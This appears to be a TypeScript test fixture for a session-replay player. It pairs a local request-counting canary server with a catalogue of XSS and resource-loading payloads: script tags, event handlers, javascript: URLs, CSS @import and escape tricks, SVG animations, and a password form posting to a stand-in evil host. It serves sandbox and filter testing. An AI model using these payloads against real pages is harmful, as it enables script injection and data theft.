import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { node, type RecordedNode } from './replay-steps.ts'

/** Counts all requests. */
export const startCanary = async () => {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('')
  })
  server.on('connection', () => asked.push('connection'))
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, asked, stop: () => void server.close() }
}

/** Elements that would run a script, send a request, or navigate, each in a different way. */
export const attacks = (evil: string): RecordedNode[] => {
  const run = "top.pwned=1;alert('pwned')"
  const svg = (tag: string, attributes: object, children: Parameters<typeof node>[2] = []) => ({
    ...node(tag, attributes, children),
    isSVG: true,
  })
  return [
    node('script', { src: `${evil}/script` }),
    node('script', {}, [run]),
    node('img', { src: `${evil}/img`, srcset: `${evil}/srcset 1x`, onerror: run, onload: run }),
    node('img', { rr_dataURL: `${evil}/data-url`, attributionsrc: `${evil}/attribution` }),
    node('picture', {}, [node('source', { srcset: `${evil}/source` }), node('img', { src: 'x', onerror: run })]),
    node('a', { href: `javascript:${run}`, ping: `${evil}/ping`, target: '_top' }, ['Click']),
    node('iframe', {
      src: `${evil}/frame`,
      srcdoc: `<script>${run}</script>`,
      sandbox: 'allow-scripts allow-top-navigation',
    }),
    node('iframe', { src: `javascript:${run}` }),
    node('object', { data: `${evil}/object`, type: 'text/html' }),
    node('embed', { src: `${evil}/embed` }),
    node('base', { href: `${evil}/base/` }),
    node('img', { src: 'relative.png' }),
    node('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    node('link', { rel: 'stylesheet', href: `${evil}/sheet` }),
    ...['preload', 'prefetch', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'prerender', 'manifest'].map(
      (rel) => node('link', { rel, href: `${evil}/${rel}`, as: 'style' }),
    ),
    node('link', { rel: 'stylesheet', _cssText: `@import "${evil}/css-text";` }),
    node('style', {}, [
      `@import "${evil}/import"; @font-face{font-family:e;src:url(${evil}/font)} p{font-family:e;background:url(${evil}/background)}`,
    ]),
    node('style', { _cssText: `@\\69mport "${evil}/escaped"; p{background:u\\72l(${evil}/escaped-url)}` }),
    node('p', { style: `background:url(${evil}/style)`, background: `${evil}/attribute` }, ['Attacked']),
    node('form', { action: `${evil}/form`, id: 'f' }, [
      node('input', { type: 'image', src: `${evil}/image`, autofocus: '', onfocus: run }),
      node('input', { type: 'password', value: '***', name: 'password' }),
    ]),
    node('video', { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: '' }),
    node('audio', { src: `${evil}/audio`, autoplay: '' }),
    node('track', { src: `${evil}/track` }),
    svg('svg', { onload: run }, [
      svg('script', { href: `${evil}/svg-script` }, [run]),
      svg('use', { href: `${evil}/use#x` }),
      svg('image', { href: `${evil}/svg-image` }),
      svg('a', { 'xlink:href': `javascript:${run}` }, [
        svg('animate', { attributeName: 'href', values: `javascript:${run}` }),
      ]),
      svg('set', { attributeName: 'onmouseover', to: run }),
      svg('style', {}, [`@import "${evil}/svg-style";`]),
    ]),
    node('body', { onload: run, background: `${evil}/body` }),
    node('dialog', { open: '', rr_open_mode: 'modal' }, ['Dialog']),
  ]
}

/**
 * Puts what runs, loads or leads somewhere into the recorded page that is shown, past the filter of the player. It runs in the page
 * around, and needs nothing of this file.
 */
export const attackFrame = async (base: string): Promise<{ sandbox: (string | null | undefined)[] }> => {
  const outer = document.querySelector<HTMLIFrameElement>('.sso-replay-stage iframe')
  const inner = outer?.contentDocument?.querySelector('iframe')?.contentDocument
  if (!outer || !inner) throw new Error('There is no recorded page')
  const run = "top.pwned=1;alert('pwned')"
  const put = (tag: string, attributes: Record<string, string>, text = ''): HTMLElement => {
    const element = inner.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    element.textContent = text
    inner.body.append(element)
    return element
  }
  put('script', { src: `${base}/raw-script` })
  put('script', {}, run)
  put('img', { src: `${base}/raw-img`, onerror: run })
  put('img', { src: 'https://evil.invalid/raw-https', onerror: run })
  put('iframe', { src: `${base}/raw-frame` })
  put('iframe', { srcdoc: `<script>${run}</script><img src="${base}/raw-srcdoc">` })
  put('iframe', { src: `javascript:${run}` })
  put('object', { data: `${base}/raw-object` })
  put('embed', { src: `${base}/raw-embed` })
  put('video', { src: `${base}/raw-video`, poster: `${base}/raw-poster` })
  for (const rel of ['stylesheet', 'preload', 'prefetch', 'manifest', 'icon'])
    put('link', { rel, href: `${base}/raw-${rel}`, as: 'image' })
  put(
    'style',
    {},
    `@import "${base}/raw-import"; @font-face{font-family:r;src:url(${base}/raw-font)} *{font-family:r;background:url(${base}/raw-background)}`,
  )
  put('meta', { 'http-equiv': 'refresh', content: `0;url=${base}/raw-refresh` })
  put('base', { href: `${base}/raw-base/` })
  const form = put('form', { action: `${base}/raw-form`, target: '_top' }) as HTMLFormElement
  form.submit()
  put('a', { href: `javascript:${run}` }).click()
  put('a', { href: `${base}/raw-top`, target: '_top', ping: `${base}/raw-ping` }).click()
  put('a', { href: `${base}/raw-blank`, target: '_blank' }).click()
  put('a', { href: `${base}/raw-self` }).click()
  put('button', { onclick: run }).click()
  await new Promise((resolve) => setTimeout(resolve, 1500))
  return {
    sandbox: [outer.getAttribute('sandbox'), outer.contentDocument?.querySelector('iframe')?.getAttribute('sandbox')],
  }
}
